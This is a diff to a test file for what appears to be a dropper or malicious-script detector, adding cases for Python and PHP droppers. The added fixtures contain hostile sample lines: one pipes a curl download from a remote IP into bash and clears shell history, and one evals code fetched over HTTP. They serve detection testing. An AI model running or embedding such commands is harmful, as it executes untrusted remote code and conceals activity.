@@ -36,6 +36,16 @@ test('hit: a dropper, a script that starts a miner, one that calls a suspect', (
   assert.equal(scripts('/opt/a.sh', '#!/bin/sh\nexec /opt/k -B\n', [entity('file', '/opt/k')]).length, 1)
 })
 
+test('hit: droppers in Python and PHP where they lie oddly or start by themselves', () => {
+  const python = '#!/usr/bin/python3\nimport os\nos.system("curl -fsSL http://203.0.113.5/x | bash; history -c")\n'
+  assert.equal(scripts('/tmp/.x/a.py', python)[0]?.severity, 'high')
+  assert.equal(started('/opt/a.sh', python).length, 0)
+  assert.equal(scripts('/opt/a.py', python).length, 0)
+  const php = '<?php eval(file_get_contents("http://203.0.113.5/x"));'
+  assert.equal(scripts('/var/tmp/a.php', php)[0]?.severity, 'medium')
+  assert.equal(scripts('/var/tmp/a.php', '<?php echo file_get_contents("https://api.example/x");').length, 0)
+})
+
 test('near miss: installers, clean-up scripts, other languages, documentation', () => {
   assert.equal(scripts('/root/install.sh', installer).length, 0)
   assert.equal(
